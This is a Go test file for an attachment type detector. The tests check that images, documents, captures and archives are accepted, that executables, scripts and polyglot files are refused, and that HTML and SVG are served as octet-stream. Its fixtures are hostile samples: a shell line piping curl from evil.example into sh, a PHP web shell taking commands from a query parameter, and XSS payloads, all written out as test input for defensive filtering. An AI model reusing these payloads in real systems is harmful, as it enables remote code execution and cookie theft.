package attachments_test

import (
	"archive/zip"
	"bytes"
	"mime"
	"strings"
	"testing"

	"rampart/shared/attachments"
	"rampart/shared/domain"
)

// Samples builds small files of each kind the tests need.
var Samples = struct {
	PNG, JPEG, GIF, WebP, PDF, Text, CSV, JSON, HAR, XML, Pcap, Pcapng, Zip, Docx, Xlsx, Pptx, Odt, Ods, HTML, SVG []byte
	ELF, PE, MachO, Shell, Python, PHP, Jar, Gzip, OLE                                                             []byte
}{
	PNG:    append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 32)...),
	JPEG:   append([]byte{0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0}, make([]byte, 32)...),
	GIF:    []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
	WebP:   append([]byte("RIFF\x24\x00\x00\x00WEBPVP8 "), make([]byte, 32)...),
	PDF:    []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"),
	Text:   []byte("Server banner: Apache/2.4.1\nTLS 1.0 enabled\n"),
	CSV:    []byte("host,port,service\n10.0.0.1,22,ssh\n10.0.0.2,443,https\n10.0.0.3,80,http\n"),
	JSON:   []byte(`{"target": "example.com", "open_ports": [22, 443]}`),
	HAR:    []byte(`{"log": {"version": "1.2", "creator": {"name": "Firefox", "version": "120"}, "entries": []}}`),
	XML:    []byte(`<?xml version="1.0" encoding="UTF-8"?><nmaprun scanner="nmap"><host/></nmaprun>`),
	Pcap:   append([]byte{0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0}, make([]byte, 16)...),
	Pcapng: append([]byte{0x0a, 0x0d, 0x0d, 0x0a, 0x1c, 0, 0, 0, 0x4d, 0x3c, 0x2b, 0x1a, 1, 0, 0, 0}, make([]byte, 12)...),
	Zip:    zipOf("notes.txt", "a", "more.txt", "b"),
	Docx:   zipOf("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>"),
	Xlsx:   zipOf("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<workbook/>"),
	Pptx:   zipOf("[Content_Types].xml", "<Types/>", "ppt/presentation.xml", "<presentation/>"),
	Odt:    zipOf("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office/>"),
	Ods:    zipOf("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "<office/>"),
	HTML:   []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
	SVG:    []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`),

	ELF:    append([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0}, make([]byte, 44)...),
	PE:     append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 64)...),
	MachO:  append([]byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0}, make([]byte, 16)...),
	Shell:  []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n"),
	Python: []byte("#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
	PHP:    []byte("<?php system($_GET['c']); ?>\n"),
	Jar:    zipOf("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: X\n", "X.class", "\xca\xfe\xba\xbe"),
	Gzip:   append([]byte{0x1f, 0x8b, 8, 0}, make([]byte, 16)...),
	OLE:    append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, make([]byte, 512)...),
}

func zipOf(kv ...string) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := 0; i+1 < len(kv); i += 2 {
		f, err := w.CreateHeader(&zip.FileHeader{Name: kv[i], Method: zip.Store})
		if err != nil {
			panic(err)
		}
		_, _ = f.Write([]byte(kv[i+1]))
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

func TestAttachDetect(t *testing.T) {
	s := Samples
	tests := []struct {
		name   string
		data   []byte
		want   string // base type; "" means refused with 415
		active bool   // served as application/octet-stream
	}{
		{"png", s.PNG, "image/png", false},
		{"jpeg", s.JPEG, "image/jpeg", false},
		{"gif", s.GIF, "image/gif", false},
		{"webp", s.WebP, "image/webp", false},
		{"pdf", s.PDF, "application/pdf", false},
		{"text", s.Text, "text/plain", false},
		{"csv", s.CSV, "text/csv", false},
		{"json", s.JSON, "application/json", false},
		{"har", s.HAR, "application/json", false},
		{"xml", s.XML, "text/xml", true},
		{"pcap", s.Pcap, "application/vnd.tcpdump.pcap", false},
		{"pcapng", s.Pcapng, "application/x-pcapng", false},
		{"zip", s.Zip, "application/zip", false},
		{"docx", s.Docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", false},
		{"xlsx", s.Xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", false},
		{"pptx", s.Pptx, "application/vnd.openxmlformats-officedocument.presentationml.presentation", false},
		{"odt", s.Odt, "application/vnd.oasis.opendocument.text", false},
		{"ods", s.Ods, "application/vnd.oasis.opendocument.spreadsheet", false},
		{"html", s.HTML, "text/html", true},
		{"svg", s.SVG, "image/svg+xml", true},

		{"elf", s.ELF, "", false},
		{"pe", s.PE, "", false},
		{"mach-o", s.MachO, "", false},
		{"shell script", s.Shell, "", false},
		{"python script", s.Python, "", false},
		{"php", s.PHP, "", false},
		{"jar", s.Jar, "", false},
		{"gzip", s.Gzip, "", false},
		{"ole (doc/xls with macros)", s.OLE, "", false},
		{"pdf header after an ELF", append(append([]byte{}, s.ELF...), s.PDF...), "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := attachments.Detect(tt.data)
			if tt.want == "" {
				if !domain.Is(err, domain.KindUnsupported) {
					t.Fatalf("Detect = %q, %v; want 415 (unsupported)", got, err)
				}
				return
			}
			if err != nil {
				t.Fatalf("Detect: %v", err)
			}
			base, _, _ := mime.ParseMediaType(got)
			if base != tt.want {
				t.Errorf("Detect = %q, want %s", got, tt.want)
			}
			served := attachments.Served(got)
			if tt.active != (served == attachments.OctetStream) {
				t.Errorf("Served(%q) = %q, active = %v", got, served, tt.active)
			}
			if !tt.active && served != got {
				t.Errorf("Served(%q) = %q, want the sniffed type", got, served)
			}
		})
	}
	t.Run("only the head is read", func(t *testing.T) {
		big := append(append([]byte{}, s.PDF...), bytes.Repeat([]byte{0}, 1<<20)...)
		if got, err := attachments.Detect(big); err != nil || !strings.HasPrefix(got, "application/pdf") {
			t.Errorf("Detect(big pdf) = %q, %v", got, err)
		}
	})
}

func TestAttachDetectPolyglots(t *testing.T) {
	pdfMarker := []byte("\n% %PDF-1.4\n")
	tests := []struct {
		name string
		data []byte
	}{
		{"elf then pdf header", append(append([]byte{}, Samples.ELF...), Samples.PDF...)},
		{"pe then pdf header", append(append([]byte{}, Samples.PE...), Samples.PDF...)},
		{"script with a pdf header", append(append([]byte{}, Samples.Shell...), pdfMarker...)},
		{"html with a pdf header", append([]byte("<html><script>alert(1)</script><!--"), append(pdfMarker, "-->"...)...)},
		{"mach-o universal", append([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2}, make([]byte, 32)...)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got, err := attachments.Detect(tt.data); !domain.Is(err, domain.KindUnsupported) {
				t.Errorf("Detect = %q, %v; want 415", got, err)
			}
		})
	}
}
